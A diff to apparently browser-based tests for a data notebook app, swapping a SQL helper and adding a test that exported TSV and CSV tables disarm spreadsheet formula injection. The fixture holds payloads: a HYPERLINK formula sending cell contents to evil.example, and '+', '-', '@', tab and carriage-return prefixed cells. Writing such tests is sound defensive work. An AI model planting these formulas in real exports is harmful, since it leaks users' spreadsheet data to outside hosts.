@@ -37,7 +37,8 @@ from runs.engine.testing import (
     Timing,
     ToolCallSpec,
 )
-from runs.presets.tools.sql import ROW_LIMIT, sql_export
+from runs.presets.tools.sql import ROW_LIMIT
+from tests.sql_support import query_rows
 
 SHOWN_ROWS = 50  # static/js/render/table.js draws this many rows at first
 
@@ -247,7 +248,7 @@ def sql_then_answer(sql: str, answer: str = "Done.") -> Script:
 def test_sql_result_table_sorts_copies_and_downloads_every_row_as_csv(
     live_app: LiveApp, scripted_model: ScriptedServer, page: Any, artifacts_dir: Path
 ) -> None:
-    columns, expected = sql_export(SALES_SQL)
+    columns, expected = query_rows(SALES_SQL)
     assert (
         len(expected) > ROW_LIMIT
     )  # the model sees 200 rows; the CSV must have them all
@@ -321,6 +322,50 @@ def test_sql_result_table_sorts_copies_and_downloads_every_row_as_csv(
     shot(page, artifacts_dir, "render-table-raw-json")
     card.get_by_role("button", name="Table").click()
     assert table.is_visible()
+    assert not page.console_errors
+
+
+# A hostile document's cells: each would run as a formula in a spreadsheet, but the numbers.
+FORMULA_SQL = (
+    'SELECT \'=HYPERLINK("http://evil.example/?"&A1,"Click")\' AS "=cmd",'
+    " '+1+1' AS plus, '-2+3' AS minus, '@SUM(A1)' AS at, char(9) || '=1' AS tab,"
+    " char(13) || '=1' AS cr, -5 AS number, '-5' AS number_text, 'a=b' AS plain"
+)
+SAFE_CELLS = [
+    '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "'+1+1",
+    "'-2+3",
+    "'@SUM(A1)",
+]
+
+
+def test_copy_tsv_and_download_csv_hold_no_live_formula(
+    live_app: LiveApp, scripted_model: ScriptedServer, page: Any, artifacts_dir: Path
+) -> None:
+    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
+    scripted_model.load(sql_then_answer(FORMULA_SQL))
+    start_notebook(page, live_app, "Show the imported rows", agent=AGENT, mode="auto")
+    table = page.locator(".tool-card .result-table").first
+    table.wait_for()
+    table.get_by_role("button", name="Copy TSV").click()
+    wait_until(
+        lambda: "Copied" in table.locator(".rt-status").inner_text(), message="copied"
+    )
+    header, row = page.evaluate("() => navigator.clipboard.readText()").split("\n")
+    assert header.split("\t")[0] == "'=cmd"
+    # tab and CR inside a value become spaces in TSV, after the quote that disarms them
+    assert row.split("\t") == [*SAFE_CELLS, "' =1", "' =1", "-5", "-5", "a=b"]
+
+    with page.expect_download() as download_info:
+        table.get_by_role("link", name="Download CSV").click()
+    path = artifacts_dir / "render-table-formulas.csv"
+    download_info.value.save_as(str(path))
+    rows = list(csv.reader(io.StringIO(path.read_bytes().decode(), newline="")))
+    assert rows[0][0] == "'=cmd"
+    assert rows[1] == [*SAFE_CELLS, "'\t=1", "'\r=1", "-5", "-5", "a=b"]
+    shot(page, artifacts_dir, "render-table-formulas")
+    page.set_viewport_size({"width": 1920, "height": 1080})
+    shot(page, artifacts_dir, "render-table-formulas-1920")
     assert not page.console_errors
 
 
@@ -400,7 +445,7 @@ def drawn_marks(locator: Any) -> int:
 def test_chart_is_drawn_and_an_invalid_spec_is_corrected_on_the_next_step(
     live_app: LiveApp, scripted_model: ScriptedServer, page: Any, artifacts_dir: Path
 ) -> None:
-    _, cities = sql_export(CITY_SQL)
+    _, cities = query_rows(CITY_SQL)
     outside = requests_leaving(page)
     scripted_model.load(chart_with_a_fix())
     task_id = start_notebook(
@@ -447,7 +492,7 @@ def test_chart_is_drawn_and_an_invalid_spec_is_corrected_on_the_next_step(
 def test_the_demo_chart_prompt_from_the_start_page(
     live_app: LiveApp, scripted_model: ScriptedServer, page: Any, artifacts_dir: Path
 ) -> None:
-    _, cities = sql_export(CITY_REVENUE_SQL)
+    _, cities = query_rows(CITY_REVENUE_SQL)
     scripted_model.load(Script(rules=chart_rules()))
     page.goto(f"{live_app.url}/")
     page.get_by_role("link", name=CHART_PROMPT).click()
